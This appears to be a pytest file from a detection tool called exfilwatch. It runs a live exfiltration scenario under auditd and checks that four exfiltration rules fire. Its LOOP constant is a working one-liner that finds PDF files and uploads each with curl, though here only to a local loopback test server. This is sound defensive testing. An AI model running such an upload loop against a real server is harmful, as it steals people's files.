"""Scenario 4, done for real on this machine and recorded by the kernel: our reader sees it."""

import os
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from tests.audit_log import events_of
from tests.running_meanwhile import answering

from exfilwatch.detection.engine import Engine
from exfilwatch.detection.load import load
from exfilwatch.events.event import Event
from exfilwatch.events.report import Report
from exfilwatch.rules.packs import pack

from .audit import AuditError, recording, run_in_session

REQUIRED = os.environ.get("EXFILWATCH_REQUIRE_SERVERS") == "1"
LOOP = (
    'find {folder} -type f -name "*.pdf" | while read -r f; do '
    'curl -s -X POST -F "file=@$f" http://127.0.0.1:{port}/upload; done'
)


class Upload(BaseHTTPRequestHandler):
    """Takes whatever is posted."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Says nothing."""


@contextmanager
def upload_server() -> Iterator[int]:
    """A server on a free port of loopback; gives the port."""
    with HTTPServer(("127.0.0.1", 0), Upload) as server, answering(server):
        yield server.server_port


def recorded(folder: Path) -> tuple[list[Event], int]:
    """The events of one run of the loop over three files, and the server's port. Raises AuditError."""
    documents = folder / "documents"
    documents.mkdir()
    for name in ("offer", "pricing", "minutes"):
        (documents / f"{name}.pdf").write_text(name)
    auid = 1_700_000_000 + os.getpid()
    with upload_server() as port:
        with recording(folder, "live", [auid]) as log:
            run_in_session(auid, ["/bin/bash", "-c", LOOP.format(folder=documents, port=port)])
        return events_of(log), port


@pytest.mark.live
def test_scenario_4_recorded_live_is_read_and_found() -> None:
    # auditd wants no path that others may write to, which pytest's own folders can be
    with tempfile.TemporaryDirectory(prefix="exfilwatch-") as folder:
        try:
            events, port = recorded(Path(folder))
        except AuditError as error:
            if REQUIRED and error.curable:
                pytest.fail(f"a live recording is required here: {error}")
            pytest.skip(str(error))

    processes = [event for event in events if event.category == "process_creation"]
    assert {"find", "curl", "bash"} <= {str(event.get("Image")).rpartition("/")[2] for event in processes}
    uploads = [
        event for event in processes if "file=@" in str(event.get("CommandLine")) and "curl" in str(event.get("Image"))
    ]
    assert len(uploads) == 3
    assert all(event.host == "live" for event in events)
    connections = [event for event in events if event.category == "network_connection"]
    assert {(event.get("DestinationIp"), event.get("DestinationPort")) for event in connections} == {
        ("127.0.0.1", port)
    }
    assert {event.get("ProcessId") for event in connections} == {event.get("ProcessId") for event in uploads}

    findings = list(Engine(load([pack("exfil")]), Report()).detect(events))
    assert {finding.rule.title for finding in findings} == {
        "Files Of People Looked For Or Gathered",
        "Upload By An HTTP Client",
        "Files Gathered, Then Uploaded From The Same Host",
        "Uploads Of Files That Recur",
    }
